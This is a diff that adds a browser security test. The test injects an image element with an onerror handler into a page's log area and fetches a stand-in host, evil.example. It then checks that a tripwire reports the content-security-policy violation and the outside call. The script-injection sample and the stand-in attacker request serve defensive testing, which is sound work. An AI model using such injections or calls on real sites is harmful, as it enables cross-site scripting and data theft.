@@ -37,6 +37,27 @@ function type(page: Page, lines: readonly string[], everyMs: number): Promise<vo
   )
 }
 
+test('the tripwire tells of a script, of what does not belong into a log, and of a call elsewhere', async ({
+  browser,
+  relay,
+}) => {
+  const { person, wire } = await openWired(browser, relay.url)
+  await person.isLive(0)
+  await wire.isUntouched()
+  await person.page.evaluate(() => {
+    const image = document.createElement('img')
+    image.setAttribute('onerror', 'tripped(1)')
+    image.src = 'x'
+    document.querySelector('[role=log]')?.append(image)
+    return fetch('https://evil.example/').catch(() => undefined)
+  })
+  await expect(wire.isUntouched()).rejects.toThrow(
+    /policy\(script-src-attr[^]*<img onerror=[^]*request https:\/\/evil\.example/,
+  )
+  expect(person.errors).not.toEqual([])
+  await person.close()
+})
+
 test(`${TEXTS} texts that would run a script or call elsewhere do neither, as words, names, topics`, async ({
   afterLines,
 }) => {
